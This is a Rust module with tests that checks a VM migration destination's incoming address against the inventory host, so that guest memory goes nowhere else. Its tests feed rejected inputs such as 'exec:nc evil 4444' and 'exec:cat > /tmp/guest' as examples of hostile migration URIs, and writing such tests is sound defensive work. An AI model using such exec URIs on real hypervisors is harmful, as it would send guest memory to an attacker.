//! Where a guest's memory may be sent. The destination names its incoming
//! address in C2; the source checks that the address's host is the one the
//! inventory gives the destination (`migration_address`, by default the host
//! of its agent's `address`) before anything is transferred, so a forged or
//! confused destination cannot have the guest's memory sent anywhere else.
//!
//! Hosts are compared as written, after normalising: an IP address in its
//! canonical form (brackets of IPv6 removed), a name in lower case. Ports are
//! not compared: the destination picks a free one per migration.

use std::net::IpAddr;

/// Why an address names no host this module can compare.
#[derive(Debug, Clone, PartialEq, Eq, thiserror::Error)]
pub enum AddressError {
    #[error("{0:?} is not an incoming address (expected tcp:HOST:PORT or sim://HOST/…)")]
    Incoming(String),
    #[error("{0:?} is not a URL with a host (expected scheme://HOST[:PORT])")]
    Url(String),
    #[error("{0:?} is not a host name or an IP address")]
    Host(String),
}

/// The host of an incoming address as C2 carries it: `tcp:HOST:PORT`
/// (QEMU's form; an IPv6 host in brackets) or `sim://HOST/…` (the
/// simulated hypervisor's). Anything else, QEMU's options after a comma
/// included, names no host and is refused.
pub fn incoming_host(address: &str) -> Result<String, AddressError> {
    let refuse = || AddressError::Incoming(address.to_string());
    if let Some(rest) = address.strip_prefix("tcp:") {
        let (host, port) = split_host_port(rest).ok_or_else(refuse)?;
        let port = port.ok_or_else(refuse)?;
        if port.parse::<u16>().map_or(true, |p| p == 0) {
            return Err(refuse());
        }
        return normal_host(host).map_err(|_| refuse());
    }
    if let Some(rest) = address.strip_prefix("sim://") {
        let host = rest.split('/').next().unwrap_or_default();
        return normal_host(host).map_err(|_| refuse());
    }
    Err(refuse())
}

/// The host of a URL such as an inventory address
/// (`https://hv-a.example:7701`, `http://[::1]:7701/`).
pub fn url_host(url: &str) -> Result<String, AddressError> {
    let refuse = || AddressError::Url(url.to_string());
    let (_, rest) = url.split_once("://").ok_or_else(refuse)?;
    let authority = rest.split(['/', '?', '#']).next().unwrap_or_default();
    if authority.contains('@') {
        return Err(refuse());
    }
    let (host, port) = split_host_port(authority).ok_or_else(refuse)?;
    if port.is_some_and(|p| p.parse::<u16>().is_err()) {
        return Err(refuse());
    }
    normal_host(host).map_err(|_| refuse())
}

/// A host as written in config (a name, an IP address, an IPv6 address
/// with or without brackets), normalised for comparison.
pub fn normal_host(host: &str) -> Result<String, AddressError> {
    let refuse = || AddressError::Host(host.to_string());
    let bare = match host.strip_prefix('[') {
        Some(inner) => {
            let inner = inner.strip_suffix(']').ok_or_else(refuse)?;
            return match inner.parse::<IpAddr>() {
                Ok(IpAddr::V6(ip)) => Ok(ip.to_string()),
                _ => Err(refuse()),
            };
        }
        None => host,
    };
    if let Ok(ip) = bare.parse::<IpAddr>() {
        return Ok(ip.to_string());
    }
    let name_like = !bare.is_empty()
        && bare.len() <= 253
        && bare
            .chars()
            .all(|c| c.is_ascii_alphanumeric() || matches!(c, '.' | '-' | '_'))
        && !bare.starts_with(['.', '-']);
    if name_like {
        Ok(bare.to_ascii_lowercase())
    } else {
        Err(refuse())
    }
}

/// `HOST[:PORT]` with HOST possibly `[IPv6]`; `None` when it does not
/// split (an IPv6 address outside brackets, say).
fn split_host_port(text: &str) -> Option<(&str, Option<&str>)> {
    if text.starts_with('[') {
        let end = text.find(']')?;
        let (host, rest) = text.split_at(end + 1);
        return match rest {
            "" => Some((host, None)),
            _ => rest.strip_prefix(':').map(|port| (host, Some(port))),
        };
    }
    match text.split_once(':') {
        None => Some((text, None)),
        Some((_, port)) if port.contains(':') => None,
        Some((host, port)) => Some((host, Some(port))),
    }
}

/// Source, on C2: whether `address` may receive the guest of an attempt
/// to `destination`, whose migration host (normalised) is `expected`. The
/// refusal names both addresses.
pub fn check_incoming(address: &str, destination: &str, expected: &str) -> Result<(), String> {
    match incoming_host(address) {
        Ok(host) if host == expected => Ok(()),
        Ok(host) => Err(format!(
            "{destination} named {address} to receive the guest, but {host} is not its \
             migration address {expected} (the inventory's migration_address for {destination}); \
             nothing was sent"
        )),
        Err(e) => Err(format!(
            "{destination} named an address that is not its migration address {expected}: {e}; \
             nothing was sent"
        )),
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn incoming_addresses_name_their_host() {
        assert_eq!(incoming_host("tcp:127.0.0.1:49152").unwrap(), "127.0.0.1");
        assert_eq!(incoming_host("tcp:10.0.0.2:1").unwrap(), "10.0.0.2");
        assert_eq!(incoming_host("tcp:[::1]:49152").unwrap(), "::1");
        // IPv6 is compared in its canonical form.
        assert_eq!(
            incoming_host("tcp:[fd00:0:0:0::0002]:4444").unwrap(),
            "fd00::2"
        );
        assert_eq!(
            incoming_host("tcp:HV-B.example:4444").unwrap(),
            "hv-b.example"
        );
        assert_eq!(incoming_host("sim://hv-b/m1.1/web").unwrap(), "hv-b");
        assert_eq!(incoming_host("sim://hv-b").unwrap(), "hv-b");
    }

    #[test]
    fn garbage_names_no_host() {
        for bad in [
            "",
            "tcp:",
            "tcp:10.0.0.2",
            "tcp:10.0.0.2:",
            "tcp:10.0.0.2:0",
            "tcp:10.0.0.2:65536",
            "tcp:10.0.0.2:port",
            "tcp::4444",
            "tcp:::1:4444",
            "tcp:[::1:4444",
            "tcp:[10.0.0.2]:4444",
            "tcp:10.0.0.2:4444,ipv4=on",
            "tcp:a b:4444",
            "tcp:-x:4444",
            "unix:/tmp/sock",
            "exec:cat > /tmp/guest",
            "fd:3",
            "rdma:10.0.0.2:4444",
            "sim://",
            "sim:///x",
            "10.0.0.2:4444",
        ] {
            assert!(
                incoming_host(bad).is_err(),
                "{bad:?} was read as {:?}",
                incoming_host(bad)
            );
        }
    }

    #[test]
    fn inventory_urls_name_their_host() {
        assert_eq!(
            url_host("https://hv-a.example:7701").unwrap(),
            "hv-a.example"
        );
        assert_eq!(url_host("http://127.0.0.1:7701").unwrap(), "127.0.0.1");
        assert_eq!(url_host("https://[::1]:7701/").unwrap(), "::1");
        assert_eq!(url_host("https://HV-A").unwrap(), "hv-a");
        for bad in [
            "hv-a:7701",
            "https://",
            "https://:7701",
            "https://user@hv-a:7701",
            "https://hv-a:x",
            "https://::1:7701",
        ] {
            assert!(
                url_host(bad).is_err(),
                "{bad:?} was read as {:?}",
                url_host(bad)
            );
        }
    }

    #[test]
    fn configured_hosts_normalise() {
        assert_eq!(normal_host("10.0.0.2").unwrap(), "10.0.0.2");
        assert_eq!(normal_host("fd00::0:2").unwrap(), "fd00::2");
        assert_eq!(normal_host("[fd00::2]").unwrap(), "fd00::2");
        assert_eq!(normal_host("Hv-B").unwrap(), "hv-b");
        for bad in [
            "",
            "[10.0.0.2]",
            "[fd00::2",
            "hv b",
            "hv-b:7701",
            "http://hv-b",
        ] {
            assert!(normal_host(bad).is_err(), "{bad:?}");
        }
    }

    #[test]
    fn only_the_destinations_own_host_receives_the_guest() {
        assert_eq!(
            check_incoming("tcp:10.0.0.2:49152", "hv-b", "10.0.0.2"),
            Ok(())
        );
        // Another port of the same host is fine: QEMU picks one per migration.
        assert_eq!(check_incoming("tcp:10.0.0.2:1", "hv-b", "10.0.0.2"), Ok(()));
        assert_eq!(
            check_incoming("tcp:[fd00::2]:4444", "hv-b", "fd00::2"),
            Ok(())
        );
        assert_eq!(
            check_incoming("sim://hv-b/m1.1/web", "hv-b", "hv-b"),
            Ok(())
        );

        let wrong = check_incoming("tcp:10.0.0.9:49152", "hv-b", "10.0.0.2").unwrap_err();
        assert!(
            wrong.contains("tcp:10.0.0.9:49152") && wrong.contains("10.0.0.2"),
            "both addresses: {wrong}"
        );
        assert!(wrong.starts_with("hv-b named"), "{wrong}");
        let v6 = check_incoming("tcp:[fd00::9]:4444", "hv-b", "fd00::2").unwrap_err();
        assert!(v6.contains("fd00::9") && v6.contains("fd00::2"), "{v6}");
        // The destination's name is not its address.
        assert!(check_incoming("tcp:hv-b:4444", "hv-b", "10.0.0.2").is_err());
        assert!(check_incoming("sim://hv-c/m1.1/web", "hv-b", "hv-b").is_err());
        let garbage = check_incoming("exec:nc evil 4444", "hv-b", "10.0.0.2").unwrap_err();
        assert!(
            garbage.contains("exec:nc evil 4444") && garbage.contains("10.0.0.2"),
            "{garbage}"
        );
    }
}
